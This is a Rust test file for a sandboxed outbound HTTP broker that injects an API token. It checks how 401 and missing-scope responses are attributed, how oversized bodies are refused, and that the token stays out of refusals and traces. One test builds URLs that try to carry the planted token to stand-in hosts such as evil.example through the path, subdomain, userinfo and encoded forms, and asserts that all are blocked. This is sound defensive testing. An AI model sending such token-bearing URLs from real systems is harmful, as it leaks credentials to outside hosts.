//! What the host sees of a token, and what nobody sees of it.

use std::fmt::Write as _;

use tracing::field::{Field, Visit};

use super::{server::Server, *};
use crate::{provider::Placement, sandbox::broker::Broker};

const TOKEN: &str = "xoxb-Planted-0123456789";

fn credential(server: &Server) -> Credential {
    Credential {
        hosts: Arc::new([server.address.to_string()]),
        placement: Some(Placement::Header {
            name: "authorization".to_owned(),
            prefix: "Bearer ".to_owned(),
        }),
        ..Credential::for_tests("SLACK_BOT_TOKEN", TOKEN)
    }
}

#[tokio::test]
async fn a_token_counts_as_refused_only_where_the_host_saw_it_sent() {
    let (provider, other) = (Server::start().await, Server::start().await);
    let shared = outbound(&policy(&[provider.origin(), other.origin()]));
    let credential = credential(&provider);
    let bearer = format!("Bearer {TOKEN}");
    for (url, header, seen) in [
        (provider.url("/status/401"), Some(bearer.as_str()), true),
        (provider.url("/status/403"), Some(bearer.as_str()), false),
        (provider.url("/status/401"), Some("Bearer another-token"), false),
        (provider.url("/status/401"), None, false),
        (other.url("/status/401"), Some(bearer.as_str()), false),
    ] {
        let mut call = shared.call_with(Some(&credential));
        let mut request = http::Request::get(&url);
        if let Some(header) = header {
            request = request.header("authorization", header);
        }
        call.send(request, "").await.unwrap();
        assert_eq!(call.ledger().totals().saw_unauthorized, seen, "{url} {header:?}");
    }
    let mut without = shared.call();
    let request = http::Request::get(provider.url("/status/401")).header("authorization", &bearer);
    without.send(request, "").await.unwrap();
    assert!(!without.ledger().totals().saw_unauthorized);
}

#[tokio::test]
async fn f_46_a_lacking_scope_counts_only_where_a_host_of_the_provider_said_so_of_this_token() {
    let (provider, other) = (Server::start().await, Server::start().await);
    let shared = outbound(&policy(&[provider.origin(), other.origin()]));
    let plain = credential(&provider);
    let telling = Credential {
        scope_error: Some(Arc::new(crate::provider::ScopeError {
            error: "/error".parse().unwrap(),
            name: "missing_scope".to_owned(),
            scopes: "/needed".parse().unwrap(),
        })),
        ..plain.clone()
    };
    let bearer = format!("Bearer {TOKEN}");
    let (head, body) = (Some("read admin"), Some("chat:write files:read"));
    for (credential, url, header, lacking) in [
        (&plain, provider.url("/lacking"), Some(bearer.as_str()), head),
        (&plain, provider.url("/lacking"), None, None),
        (&plain, other.url("/lacking"), Some(bearer.as_str()), None),
        (&plain, provider.url("/status/403"), Some(bearer.as_str()), None),
        (&plain, provider.url("/missing_scope/0"), Some(bearer.as_str()), None),
        (&telling, provider.url("/missing_scope/0"), Some(bearer.as_str()), body),
        (
            &telling,
            provider.url("/missing_scope/9000"),
            Some(bearer.as_str()),
            None,
        ),
        (&telling, provider.url("/missing_scope/0"), Some("Bearer another"), None),
        (&telling, other.url("/missing_scope/0"), Some(bearer.as_str()), None),
        (&telling, provider.url("/lacking"), Some(bearer.as_str()), head),
    ] {
        let mut call = shared.call_with(Some(credential));
        let mut request = http::Request::get(&url);
        if let Some(header) = header {
            request = request.header("authorization", header);
        }
        text(call.send(request, "").await.unwrap()).await;
        let seen = call.ledger().totals().lacks_scopes.map(|scopes| scopes.join(" "));
        assert_eq!(seen.as_deref(), lacking, "{url} {header:?}");
    }
}

#[tokio::test]
async fn a_body_too_large_to_hold_a_placeholder_in_a_field_is_refused_with_the_limit() {
    let server = Server::start().await;
    let credential = Credential {
        placement: Some(Placement::Field("token".to_owned())),
        ..credential(&server)
    };
    let broker = Arc::new(Broker::new(&credential, None).unwrap());
    let placeholder = broker.value_of("SLACK_BOT_TOKEN").unwrap().to_owned();
    let shared = outbound(&policy(&[server.origin()]));
    let form = "application/x-www-form-urlencoded";
    let written = |text: String| {
        let json = format!(r#"{{"text": "{text}", "token": "{placeholder}"}}"#);
        [
            ("application/json", json),
            (form, format!("text={text}&token={placeholder}")),
        ]
    };
    let of_length = |length: usize| written("a".repeat(length));
    for (kind, body) in of_length(60 << 10) {
        let mut call = call_with(&shared, &credential, &broker);
        let request = http::Request::post(server.url("/")).header("content-type", kind);
        assert_eq!(call.send(request, body).await.unwrap().status(), 200);
        assert!(call.ledger().totals().refusals.is_empty());
    }
    for (kind, body) in of_length(64 << 10) {
        let mut call = call_with(&shared, &credential, &broker);
        let request = http::Request::post(server.url("/")).header("content-type", kind);
        let error = call.send(request, body).await.unwrap_err();
        assert!(matches!(error, Error::HttpRequestBodySize(Some(65536))), "{error}");
        let [refusal] = &call.ledger().totals().refusals[..] else {
            panic!("it is told");
        };
        assert!(
            refusal.reason.contains("64 KiB") && refusal.reason.contains("\"env\""),
            "{refusal}"
        );
    }
}

fn call_with(shared: &Outbound, credential: &Credential, broker: &Arc<Broker>) -> CallOutbound {
    let by = Instant::now() + Duration::from_secs(60);
    shared.for_call(&Profile::default(), Some(credential), Some(Arc::clone(broker)), by)
}

/// Writes down whatever is traced.
#[derive(Clone, Default)]
struct Traced(Arc<Mutex<String>>);

impl Visit for Traced {
    fn record_debug(&mut self, field: &Field, value: &dyn std::fmt::Debug) {
        let _ = write!(self.0.lock().unwrap(), " {field}={value:?}");
    }
}

impl tracing::Subscriber for Traced {
    fn enabled(&self, _: &tracing::Metadata<'_>) -> bool {
        true
    }

    fn new_span(&self, span: &tracing::span::Attributes<'_>) -> tracing::span::Id {
        let _ = write!(self.0.lock().unwrap(), "\n{}", span.metadata().name());
        span.record(&mut self.clone());
        tracing::span::Id::from_u64(1)
    }

    fn record(&self, _: &tracing::span::Id, values: &tracing::span::Record<'_>) {
        values.record(&mut self.clone());
    }

    fn record_follows_from(&self, _: &tracing::span::Id, _: &tracing::span::Id) {}

    fn event(&self, event: &tracing::Event<'_>) {
        let _ = write!(self.0.lock().unwrap(), "\n{}", event.metadata().target());
        event.record(&mut self.clone());
    }

    fn enter(&self, _: &tracing::span::Id) {}

    fn exit(&self, _: &tracing::span::Id) {}
}

#[tokio::test]
async fn a_planted_token_is_in_no_refusal_and_no_trace() {
    let server = Server::start().await;
    let traced = Traced::default();
    let listening = tracing::subscriber::set_default(traced.clone());
    let credential = credential(&server);
    let mut rules = policy(&[server.origin(), "https://*.evil.example".to_owned()]);
    rules.deny = vec!["https://denied.example".parse().unwrap()];
    let mut call = outbound(&rules).call_with(Some(&credential));
    let allowed = http::Request::get(server.url(&format!("/status/401?token={TOKEN}")))
        .header("authorization", format!("Bearer {TOKEN}"));
    text(call.send(allowed, TOKEN).await.unwrap()).await;
    for url in [
        format!("https://evil.example/{TOKEN}?{TOKEN}"),
        format!("https://{TOKEN}.elsewhere.example/"),
        format!("https://denied.example/a%2f{}", TOKEN.replace('-', "%2d")),
        format!("ftp://evil.example/{TOKEN}"),
        format!("https://{TOKEN}:{TOKEN}@evil.example/"),
        format!("https://..{TOKEN}/"),
    ] {
        call.get(&url).await.unwrap_err();
    }
    // Allowed by name; it is nobody's, so it does not resolve, and its name is a trace.
    let _ = call.prepare(
        http::Request::get(format!("https://{TOKEN}.evil.example/"))
            .body(
                http_body_util::Empty::new()
                    .map_err(|never| match never {})
                    .boxed_unsync(),
            )
            .unwrap(),
        None,
    );
    drop(listening);
    let totals = call.ledger().totals();
    assert_eq!(totals.refusals.len(), 6);
    let traced = traced.0.lock().unwrap().clone();
    assert!(
        traced.contains("outbound request") && traced.contains("status=401"),
        "{traced}"
    );
    for text in [format!("{totals:?}"), format!("{credential:?}"), traced] {
        assert!(!text.to_lowercase().contains("planted"), "{text}");
    }
}
